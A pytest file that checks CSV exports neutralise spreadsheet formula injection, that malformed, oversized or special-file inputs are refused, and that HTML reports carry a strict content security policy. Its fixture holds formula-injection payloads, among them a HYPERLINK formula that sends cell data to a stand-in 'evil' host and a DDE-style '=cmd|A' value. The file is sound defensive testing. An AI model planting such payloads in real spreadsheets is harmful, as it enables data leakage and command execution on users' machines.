# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Records of demands from others: their tables in CSV, hostile names in them, the policy of the page."""

from __future__ import annotations

import csv
import os
import shutil
from collections.abc import Callable
from itertools import product
from pathlib import Path

import pandas as pd
import pytest
from test_demand import scenario

from conftest import Cli
from perigee_lab.common import quoting
from perigee_lab.common.files import RecordError
from perigee_lab.demand import background, report, summary
from perigee_lab.demand import record as records
from perigee_lab.demand.record import Record
from perigee_lab.results import webpage
from perigee_lab.runs.scenario import open_file

HOSTILE_CELLS = """name,lat,lon,population,terminals
"=HYPERLINK(""http://evil/""&A1)",41.9,12.5,2800000,900
@SUM(1),40.4,-3.7,3200000,700
+Vienna,48.2,16.4,1900000,500
'-Nairobi,-1.3,36.8,4400000,800
"""
NAMES = ['=HYPERLINK("http://evil/"&A1)', "@SUM(1)", "+Vienna", "'-Nairobi"]
PLAN = "=cmd|A"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A complete record of ten minutes, in which cells, a plan and a gateway are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    path = scenario(folder, minutes=10)
    (folder / "cells.csv").write_text(HOSTILE_CELLS)
    (folder / "gateways.csv").write_text((folder / "gateways.csv").read_text().replace("Raisting", "=1+1"))
    path.write_text(path.read_text().replace('name = "half"', f'name = "{PLAN}"'))
    records.compute(open_file(path, []), folder / "out")
    return folder / "out"


def texts(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_formula(cell: str) -> bool:
    return cell[:1] in "=+-@" and cell != "" and pd.isna(pd.to_numeric(cell, errors="coerce"))


@pytest.mark.parametrize("name", summary.SUMMARIES)
def test_names_in_tables_are_no_formulas_and_are_read_back(name: str, hostile: Path) -> None:
    cells = texts(hostile / f"{name}.csv")
    assert not [c for c in cells if is_formula(c)]
    assert any(c.startswith("'=") for c in cells)
    record = Record(hostile)
    assert set(record.by_cell["cell"]) == set(NAMES)
    assert set(record.hours["plan"]) == {PLAN, record.start["plans"][0]["name"]}
    assert "=1+1" in set(record.links["from"]) & set(record.by_cell["gateway"])
    # The tables that are read back are those that are computed.
    pd.testing.assert_frame_equal(record.by_cell, summary.of(record).cells, rtol=1e-6, check_dtype=False)


def test_a_table_of_background_has_no_formulas(hostile: Path, tmp_path: Path) -> None:
    found = background.loads(Record(hostile), None, 60.0)
    found.write(tmp_path / "b.csv")
    cells = texts(tmp_path / "b.csv")
    assert not [c for c in cells if is_formula(c)]
    ports = set(found.ports["port"])
    assert {quoting.from_csv(c) for c in cells} >= ports
    assert any(p.startswith("=1+1->") for p in ports)


def test_a_table_of_a_sweep_has_no_formulas(cli: Cli, tmp_path: Path) -> None:
    path = scenario(tmp_path, minutes=2)
    path.write_text(path.read_text() + '[sweep]\ntitle = ["=1+1", "@x"]\n')
    done = cli("demand", "sweep", "s.toml", "--out", "out")
    assert done.returncode == 0, done.stderr
    cells = texts(tmp_path / "out" / "sweep.csv")
    assert not [c for c in cells if is_formula(c)]
    assert {"'=1+1", "'@x"} <= set(cells)


@pytest.fixture
def record(hostile: Path, tmp_path: Path) -> Path:
    shutil.copytree(hostile, tmp_path / "record")
    return tmp_path / "record"


def pipe(path: Path) -> None:
    os.mkfifo(path)


def device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(6_000_000_000)


@pytest.mark.parametrize("make", [pipe, device, sparse])
@pytest.mark.parametrize("name", summary.SUMMARIES)
def test_a_table_that_is_no_file_or_too_long_ends_in_a_line(
    name: str, make: Callable[[Path], None], record: Path
) -> None:
    (record / f"{name}.csv").unlink()
    make(record / f"{name}.csv")
    says = {pipe: "a pipe", device: "a device", sparse: "at most"}[make]
    with pytest.raises(RecordError, match=says) as error:
        report.write(Record(record), record / "report.html")
    assert f"{name}.csv" in str(error.value)
    assert str(error.value).isprintable()


DAMAGES: dict[str, tuple[Callable[[str], str], str]] = {
    "column": (lambda text: text.replace("direction", "way", 1), "columns must be"),
    "name": (lambda text: text.replace("down", "do\x1bwn", 1), "U\\+001B"),
    "override": (lambda text: text.replace("down", "do\u202ewn", 1), "U\\+202E"),
    "text": (lambda text: text.rstrip("\n").rpartition(",")[0] + ",x\n", "numbers only|columns must be"),
    "long line": (lambda text: text.rstrip("\n") + "," * 100_000 + "\n", "is damaged"),
    "binary": (lambda text: text + "\ud800", "is damaged"),
    "lines": (lambda text: text + "\n" * 40_000_000, "lines, at most"),
}


# The last column of cells is a text.
@pytest.mark.parametrize(("name", "damage"), [p for p in product(summary.SUMMARIES, DAMAGES) if p != ("cells", "text")])
def test_a_table_with_other_columns_names_or_rows_is_refused(name: str, damage: str, record: Path) -> None:
    change, says = DAMAGES[damage]
    path = record / f"{name}.csv"
    path.write_bytes(change(path.read_text(encoding="utf-8")).encode("utf-8", "surrogatepass"))
    with pytest.raises(RecordError, match=says) as error:
        (Record(record).by_cell, Record(record).links, Record(record).hours)
    assert f"{name}.csv" in str(error.value)


def test_a_start_of_many_values_is_refused_unparsed(record: Path) -> None:
    """One of 60 MB took 1.6 GB of memory and 47 s."""
    text = (record / "start.json").read_text(encoding="utf-8").rstrip().removesuffix("}")
    (record / "start.json").write_text(text + ',"more":[{}' + ",{}" * 500_000 + "]}", encoding="utf-8")
    with pytest.raises(RecordError, match="more than 1,000,000 values"):
        Record(record)


def test_rows_are_those_of_the_record(record: Path) -> None:
    for name, of in (("cells", "by_cell"), ("hours", "hours")):
        path = record / f"{name}.csv"
        whole = path.read_text(encoding="utf-8")
        path.write_text(whole.rstrip("\n").rpartition("\n")[0] + "\n", encoding="utf-8")
        with pytest.raises(RecordError, match="rows those of the record"):
            getattr(Record(record), of)
        path.write_text(whole, encoding="utf-8")


def test_the_page_has_a_policy_for_what_it_has(record: Path, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    for other in (None, Record(record)):
        report.write(Record(record), page, other)
        text = page.read_text(encoding="utf-8")
        policy = quoting.html(webpage.policy([], [report.STYLE]))
        assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in text
        assert text.index("Content-Security-Policy") < text.index("<title>")
        assert text.count("<style") == 1
        assert "<script" not in text
        assert "style=" not in text
